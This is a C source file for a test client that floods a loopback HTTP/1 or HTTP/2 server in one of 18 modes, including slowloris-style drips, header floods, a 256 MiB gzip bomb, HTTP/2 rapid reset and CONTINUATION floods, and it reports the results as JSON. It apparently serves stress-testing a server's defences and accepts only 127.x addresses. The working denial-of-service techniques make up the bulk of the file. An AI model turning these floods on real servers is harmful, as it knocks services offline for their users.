// SPDX-License-Identifier: Apache-2.0
// links: z
// A client that does one harmful thing over many connections, for a limited time, to a server on
// the loopback interface:
//
//     attack MODE 127.0.0.1:PORT CONNECTIONS SECONDS
//
// Whoever is thrown out comes again. Prints one JSON object: what was sent, and how it was
// answered.
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

enum {
    CONNECTIONS_MAX = 20000,
    OPENED_MAX = 400000, // in all
    CHUNK = 16 * 1024,
    DRIP_MS = 500,
    BOMB_BYTES = 256 << 20,
    STATUSES = 600,
};

struct conn {
    int fd; // -1: not open
    bool connecting;
    bool answered;
    uint64_t sent;
    uint64_t head;   // of that, the header
    int64_t next_ms; // nothing is sent before
    uint8_t pending[CHUNK];
    size_t n_pending, at_pending;
};

struct mode;
struct attack {
    const struct mode *mode;
    struct sockaddr_in address;
    struct conn *conns;
    struct pollfd *polls;
    size_t n;
    uint8_t *bomb;
    size_t bomb_len;
    uint64_t opened, refused, thrown_out, sent, received;
    uint64_t statuses[STATUSES];
};

// Fills what a connection sends next; 0: it has said all. `drip`: in pieces of one byte.
struct mode {
    const char *name;
    size_t (*next)(struct attack *attack, struct conn *conn, uint8_t out[CHUNK]);
    bool drip;
    bool reads;
    bool leaves; // closes once it has said all
};

static int64_t now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static size_t put(uint8_t out[CHUNK], const char *format, ...)
    __attribute__((format(printf, 2, 3)));
static size_t put(uint8_t out[CHUNK], const char *format, ...)
{
    va_list args;
    va_start(args, format);
    int n = vsnprintf((char *)out, CHUNK, format, args);
    va_end(args);
    return (size_t)n;
}

// ---- HTTP/1 -------------------------------------------------------------------------------------

#define POST "POST /v1/batch HTTP/1.1\r\nHost: x\r\nAuthorization: Basic ZGV2Og==\r\n"

static size_t next_nothing(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack, (void)conn, (void)out;
    return 0;
}

static size_t next_slow_header(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    if (conn->sent == 0)
        return put(out, POST);
    return put(out, "X-Slow-%llu: a\r\n", (unsigned long long)conn->sent);
}

static size_t next_slow_body(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    return conn->sent == 0 ? put(out, POST "Content-Length: 100000\r\n\r\n{\"batch\":[")
                           : put(out, "        ");
}

static size_t next_pipeline(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack, (void)conn;
    size_t n = 0;
    while (n + 200 < CHUNK)
        n += put(out + n, "GET /nothing/here HTTP/1.1\r\nHost: x\r\n\r\n");
    return n;
}

static size_t next_header_flood(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    size_t n = conn->sent == 0 ? put(out, POST) : 0;
    while (n + 100 < CHUNK)
        n += put(out + n, "X-Flood-%zu: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n", n);
    return n;
}

static size_t next_gigabyte(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    if (conn->sent == 0)
        return put(out, POST "Content-Length: 1073741824\r\n\r\n");
    if (conn->sent > 1073741824)
        return 0;
    memset(out, ' ', CHUNK);
    return CHUNK;
}

static size_t next_chunked(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    if (conn->sent == 0)
        return put(out, POST "Transfer-Encoding: chunked\r\n\r\n");
    size_t n = put(out, "3000\r\n");
    memset(out + n, ' ', 0x3000);
    return n + 0x3000 + put(out + n + 0x3000, "\r\n");
}

// 256 MiB of zeros, packed, in chunks.
static size_t next_bomb(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    enum { PIECE = 8192, PIECE_SENT = PIECE + 8 };
    if (conn->sent == 0) {
        conn->head = put(out, POST "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n");
        return (size_t)conn->head;
    }
    size_t at = (size_t)((conn->sent - conn->head) / PIECE_SENT) * PIECE;
    if (at + PIECE > attack->bomb_len)
        return 0; // the rest would unpack to little
    size_t n = put(out, "%x\r\n", PIECE);
    memcpy(out + n, attack->bomb + at, PIECE);
    memcpy(out + n + PIECE, "\r\n", 2);
    return n + PIECE + 2;
}

// The same with a length, which is within bounds.
static size_t next_bomb_said(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    if (conn->sent == 0) {
        conn->head = put(out, POST "Content-Encoding: gzip\r\nContent-Length: %zu\r\n\r\n",
                         attack->bomb_len);
        return (size_t)conn->head;
    }
    size_t at = (size_t)(conn->sent - conn->head);
    size_t left = attack->bomb_len - at, len = left < CHUNK ? left : CHUNK;
    memcpy(out, attack->bomb + at, len);
    return len;
}

static size_t next_garbage(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    static uint32_t seed = 1;
    (void)attack, (void)conn;
    for (size_t i = 0; i < CHUNK; i++) {
        seed = seed * 1664525 + 1013904223;
        out[i] = (uint8_t)(seed >> 24);
    }
    return CHUNK;
}

static size_t next_one(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    return conn->sent == 0 ? put(out, POST "Content-Length: 5\r\n\r\n") : 0;
}

// ---- HTTP/2 (https://www.rfc-editor.org/rfc/rfc9113) --------------------------------------------

static const uint8_t PREFACE[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";
enum { PREFACE_LEN = sizeof PREFACE - 1 };
enum { H2_HEADERS = 1, H2_RST = 3, H2_SETTINGS = 4, H2_PING = 6, H2_CONTINUATION = 9 };

static size_t frame(uint8_t *out, uint8_t type, uint8_t flags, uint32_t stream, const void *body,
                    size_t len)
{
    const uint8_t head[] = {(uint8_t)(len >> 16),
                            (uint8_t)(len >> 8),
                            (uint8_t)len,
                            type,
                            flags,
                            (uint8_t)(stream >> 24),
                            (uint8_t)(stream >> 16),
                            (uint8_t)(stream >> 8),
                            (uint8_t)stream};
    memcpy(out, head, sizeof head);
    memcpy(out + sizeof head, body, len);
    return sizeof head + len;
}

// :method POST, :scheme http, :path /a, :authority a, content-type application/grpc, te trailers;
// literals without index (HPACK, RFC 7541).
static const uint8_t REQUEST[] = "\x83\x86\x04\x02/a\x01\x01"
                                 "a\x0f\x10\x10"
                                 "application/grpc"
                                 "\x00\x02te\x08trailers";
enum { REQUEST_LEN = sizeof REQUEST - 1, REQUEST_AND_RESET = 9 + REQUEST_LEN + 13 };

static size_t h2_begin(struct conn *conn, uint8_t out[CHUNK])
{
    if (conn->sent != 0)
        return 0;
    memcpy(out, PREFACE, PREFACE_LEN);
    return PREFACE_LEN;
}

static size_t next_h2_idle(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    return h2_begin(conn, out);
}

static size_t next_h2_reset(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    static const uint8_t CANCEL[] = {0, 0, 0, 8};
    (void)attack;
    size_t n = h2_begin(conn, out);
    uint64_t before = conn->sent == 0 ? 0 : (conn->sent - PREFACE_LEN) / REQUEST_AND_RESET;
    uint32_t stream = (uint32_t)(before * 2 + 1);
    for (; n + REQUEST_AND_RESET <= CHUNK; stream += 2) {
        n += frame(out + n, H2_HEADERS, 0x4, stream, REQUEST, REQUEST_LEN);
        n += frame(out + n, H2_RST, 0, stream, CANCEL, sizeof CANCEL);
    }
    return n;
}

static size_t next_h2_continuation(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    static const uint8_t FIELD[] = "\x00\x04x-ab\x20"
                                   "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    (void)attack;
    size_t n = h2_begin(conn, out);
    if (n > 0)
        n += frame(out + n, H2_HEADERS, 0, 1, REQUEST, REQUEST_LEN);
    while (n + 100 < CHUNK)
        n += frame(out + n, H2_CONTINUATION, 0, 1, FIELD, sizeof FIELD - 1);
    return n;
}

static size_t next_h2_control(struct conn *conn, uint8_t out[CHUNK], uint8_t type, size_t len)
{
    static const uint8_t ZERO[8];
    size_t n = h2_begin(conn, out);
    while (n + 17 < CHUNK)
        n += frame(out + n, type, 0, 0, ZERO, len);
    return n;
}

static size_t next_h2_ping(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    return next_h2_control(conn, out, H2_PING, 8);
}

static size_t next_h2_settings(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    (void)attack;
    return next_h2_control(conn, out, H2_SETTINGS, 0);
}

// Requests whose answers are never read and have no window.
static size_t next_h2_unread(struct attack *attack, struct conn *conn, uint8_t out[CHUNK])
{
    static const uint8_t NO_WINDOW[] = {0, 4, 0, 0, 0, 0};
    (void)attack;
    if (conn->sent > 64 * CHUNK)
        return 0;
    size_t n = h2_begin(conn, out);
    uint64_t before = n > 0 ? 0 : (conn->sent - PREFACE_LEN - 15) / (9 + REQUEST_LEN);
    if (n > 0)
        n += frame(out + n, H2_SETTINGS, 0, 0, NO_WINDOW, sizeof NO_WINDOW);
    for (uint32_t stream = (uint32_t)(before * 2 + 1); n + 9 + REQUEST_LEN <= CHUNK; stream += 2)
        n += frame(out + n, H2_HEADERS, 0x5, stream, REQUEST, REQUEST_LEN);
    return n;
}

static const struct mode MODES[] = {
    {"idle", next_nothing, false, true, false},
    {"slow-header", next_slow_header, true, true, false},
    {"slow-body", next_slow_body, true, true, false},
    {"unread", next_pipeline, false, false, false},
    {"header-flood", next_header_flood, false, true, false},
    {"gigabyte", next_gigabyte, false, true, false},
    {"chunked-without-end", next_chunked, false, true, false},
    {"bomb", next_bomb, false, true, false},
    {"bomb-with-length", next_bomb_said, false, true, false},
    {"garbage", next_garbage, false, true, false},
    {"half-open", next_one, false, true, false},
    {"come-and-go", next_one, false, false, true},
    {"h2-idle", next_h2_idle, false, true, false},
    {"h2-rapid-reset", next_h2_reset, false, true, false},
    {"h2-continuation", next_h2_continuation, false, true, false},
    {"h2-ping", next_h2_ping, false, false, false},
    {"h2-settings", next_h2_settings, false, false, false},
    {"h2-unread", next_h2_unread, false, false, false},
};

// ---- Connections --------------------------------------------------------------------------------

static void conn_open(struct attack *attack, struct conn *conn)
{
    conn->fd = -1;
    if (attack->opened >= OPENED_MAX)
        return;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return;
    if (connect(fd, (struct sockaddr *)&attack->address, sizeof attack->address) != 0 &&
        errno != EINPROGRESS) {
        attack->refused++;
        close(fd);
        return;
    }
    attack->opened++;
    conn->fd = fd;
    conn->connecting = true;
    conn->answered = false;
    conn->sent = 0;
    conn->n_pending = conn->at_pending = 0;
    conn->next_ms = 0;
}

static void conn_again(struct attack *attack, struct conn *conn)
{
    close(conn->fd);
    conn->fd = -1;
    conn->next_ms = now_ms() + 100; // comes back a moment later
    (void)attack;
}

static void conn_read(struct attack *attack, struct conn *conn)
{
    char bytes[4096];
    ssize_t n = recv(conn->fd, bytes, sizeof bytes - 1, 0);
    if (n > 0) {
        int status = 0;
        bytes[n] = '\0';
        attack->received += (uint64_t)n;
        if (!conn->answered && sscanf(bytes, "HTTP/1.1 %d", &status) == 1 && status > 0 &&
            status < STATUSES)
            attack->statuses[status]++;
        conn->answered = true;
    } else if (n == 0 || (errno != EAGAIN && errno != EINTR)) {
        attack->thrown_out++;
        conn_again(attack, conn);
    }
}

static void conn_write(struct attack *attack, struct conn *conn, int64_t at_ms)
{
    conn->connecting = false;
    if (conn->next_ms > at_ms)
        return;
    if (conn->at_pending == conn->n_pending) {
        conn->at_pending = 0;
        conn->n_pending = attack->mode->next(attack, conn, conn->pending);
    }
    if (conn->n_pending == 0) {
        conn->next_ms = INT64_MAX;
        if (attack->mode->leaves)
            conn_again(attack, conn);
        return;
    }
    bool drip = attack->mode->drip && conn->sent > 100;
    size_t len = drip ? 1 : conn->n_pending - conn->at_pending;
    ssize_t n = send(conn->fd, conn->pending + conn->at_pending, len, MSG_NOSIGNAL);
    if (n > 0) {
        conn->at_pending += (size_t)n;
        conn->sent += (uint64_t)n;
        attack->sent += (uint64_t)n;
        if (attack->mode->drip)
            conn->next_ms = at_ms + DRIP_MS;
    } else if (errno != EAGAIN && errno != EINTR) {
        attack->thrown_out++;
        conn_again(attack, conn);
    }
}

// Which of the connections can go on; at most 100 new ones a round, so that a listener's queue is
// not all that is tried.
static void attack_round(struct attack *attack)
{
    int64_t at_ms = now_ms();
    int n_new = 0;
    for (size_t i = 0; i < attack->n; i++) {
        struct conn *conn = &attack->conns[i];
        if (conn->fd < 0 && conn->next_ms <= at_ms && n_new++ < 100)
            conn_open(attack, conn);
        bool writes = conn->connecting || conn->next_ms <= at_ms;
        attack->polls[i] = (struct pollfd){
            .fd = conn->fd,
            .events = (short)((writes ? POLLOUT : 0) | (attack->mode->reads ? POLLIN : 0)),
        };
    }
    if (poll(attack->polls, attack->n, 20) <= 0)
        return;
    for (size_t i = 0; i < attack->n; i++) {
        short got = attack->polls[i].fd < 0 ? 0 : attack->polls[i].revents;
        struct conn *conn = &attack->conns[i];
        if ((got & (POLLIN | POLLERR | POLLHUP)) != 0)
            conn_read(attack, conn);
        if (conn->fd >= 0 && (got & POLLOUT) != 0)
            conn_write(attack, conn, at_ms);
    }
}

static void make_bomb(struct attack *attack)
{
    z_stream z = {0};
    static uint8_t zeros[1 << 16];
    size_t cap = 1 << 20;
    attack->bomb = malloc(cap);
    if (attack->bomb == NULL || deflateInit2(&z, 9, Z_DEFLATED, 31, 8, 0) != Z_OK)
        exit(1);
    z.next_out = attack->bomb;
    z.avail_out = (uInt)cap;
    for (size_t n = 0; n < BOMB_BYTES; n += sizeof zeros) {
        z.next_in = zeros;
        z.avail_in = sizeof zeros;
        deflate(&z, n + sizeof zeros >= BOMB_BYTES ? Z_FINISH : Z_NO_FLUSH);
    }
    attack->bomb_len = z.total_out;
    deflateEnd(&z);
}

static void print_result(const struct attack *attack)
{
    printf("{\"mode\":\"%s\",\"connections\":%zu,\"opened\":%llu,\"refused\":%llu,"
           "\"thrown_out\":%llu,\"sent_bytes\":%llu,\"received_bytes\":%llu,\"statuses\":{",
           attack->mode->name, attack->n, (unsigned long long)attack->opened,
           (unsigned long long)attack->refused, (unsigned long long)attack->thrown_out,
           (unsigned long long)attack->sent, (unsigned long long)attack->received);
    bool first = true;
    for (int i = 0; i < STATUSES; i++) {
        if (attack->statuses[i] == 0)
            continue;
        printf("%s\"%d\":%llu", first ? "" : ",", i, (unsigned long long)attack->statuses[i]);
        first = false;
    }
    puts("}}");
}

static bool parse(struct attack *attack, int argc, char **argv)
{
    if (argc != 5)
        return false;
    for (size_t i = 0; i < sizeof MODES / sizeof MODES[0]; i++)
        if (strcmp(argv[1], MODES[i].name) == 0)
            attack->mode = &MODES[i];
    char host[32];
    int port;
    attack->n = (size_t)strtoul(argv[3], NULL, 10);
    if (attack->mode == NULL || sscanf(argv[2], "%31[0-9.]:%d", host, &port) != 2 ||
        strncmp(host, "127.", 4) != 0 || attack->n == 0 || attack->n > CONNECTIONS_MAX)
        return false;
    attack->address =
        (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    return inet_pton(AF_INET, host, &attack->address.sin_addr) == 1;
}

int main(int argc, char **argv)
{
    static struct attack attack;
    if (!parse(&attack, argc, argv)) {
        fputs("usage: attack MODE 127.x.x.x:PORT CONNECTIONS SECONDS, with MODE one of", stderr);
        for (size_t i = 0; i < sizeof MODES / sizeof MODES[0]; i++)
            fprintf(stderr, " %s", MODES[i].name);
        fputc('\n', stderr);
        return 2;
    }
    struct rlimit files;
    if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
        files.rlim_cur = files.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &files);
    }
    make_bomb(&attack);
    attack.conns = calloc(attack.n, sizeof *attack.conns);
    attack.polls = calloc(attack.n, sizeof *attack.polls);
    if (attack.conns == NULL || attack.polls == NULL)
        return 1;
    for (size_t i = 0; i < attack.n; i++)
        attack.conns[i].fd = -1;
    int64_t end_ms = now_ms() + strtol(argv[4], NULL, 10) * 1000;
    while (now_ms() < end_ms)
        attack_round(&attack);
    print_result(&attack);
    return 0;
}
